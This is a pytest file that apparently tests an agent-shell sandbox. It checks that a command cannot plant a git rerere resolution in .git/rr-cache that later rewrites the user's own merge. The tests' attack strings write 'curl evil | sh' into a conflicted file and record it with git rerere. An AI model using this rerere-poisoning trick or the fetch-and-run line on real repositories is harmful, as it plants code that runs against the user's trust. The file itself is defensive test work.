"""git rerere's cache is what runs later too: a resolution planted in ``.git/rr-cache``
resolved the user's next conflicting merge with the command's text, git saying only
"Resolved 'f' using previous resolution" (and the folder's presence alone turns rerere on).
In the sandbox it is read-only when it exists and moved out when a command makes it; git
there keeps rerere off, so an ordinary merge and commit still work."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from ..sandboxing import require_sandbox
from .later_ws import git, later_workspace, sh

pytestmark = pytest.mark.anyio

PLANT = ("mkdir -p .git/rr-cache && git merge feature; echo 'curl evil | sh' > f; git rerere; "
         "git merge --abort")


@pytest.fixture
def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    yield from later_workspace(monkeypatch, ".agent-shell-test-rerere-")


def conflicting(ws: Path) -> None:
    """main and feature each change ``f``: merging feature into main conflicts."""
    git(ws, "init", "-q", "-b", "main")
    (ws / "f").write_text("a\n")
    git(ws, "add", "f")
    git(ws, "commit", "-qm", "init")
    git(ws, "checkout", "-qb", "feature")
    (ws / "f").write_text("feature\n")
    git(ws, "commit", "-qam", "feature")
    git(ws, "checkout", "-q", "main")
    (ws / "f").write_text("mainline\n")
    git(ws, "commit", "-qam", "main")


def users_merge(ws: Path) -> str:
    """The user's own ``git merge feature``, outside the sandbox: ``f`` after it."""
    try:
        git(ws, "merge", "feature")
    except Exception:  # the conflict: git exits 1, and f holds what git made of it
        pass
    return (ws / "f").read_text()


async def test_a_new_rr_cache_does_not_resolve_the_users_next_merge(ws: Path) -> None:
    require_sandbox()
    conflicting(ws)
    result = await sh(ws, PLANT)
    assert ".git/rr-cache" in result.details.get("quarantined", []), result.text
    assert "git rerere" in result.text
    assert "curl evil" not in users_merge(ws)


async def test_an_existing_rr_cache_is_read_only_and_a_merge_in_the_sandbox_still_works(ws: Path) -> None:
    """The user's rerere (on in their config) records in ``rr-cache``: a command cannot add to it,
    even with rerere turned back on, and git in the sandbox, told rerere is off, neither fails to
    write it nor crashes at the commit (git 2.39 segfaulted there after a preimage it could not write)."""
    require_sandbox()
    conflicting(ws)
    git(ws, "config", "rerere.enabled", "true")
    (ws / ".git" / "rr-cache").mkdir()
    on = "git -c rerere.enabled=true"
    result = await sh(ws, f"{on} merge feature; echo 'curl evil | sh' > f; {on} rerere; git merge --abort; "
                          "git merge feature; echo resolved > f && git add f && git commit -qm merged"
                          " && echo COMMITTED")
    assert "COMMITTED" in result.text, result.text
    assert list((ws / ".git" / "rr-cache").iterdir()) == [], result.text
    git(ws, "reset", "-q", "--hard", "HEAD~1")
    assert "curl evil" not in users_merge(ws)
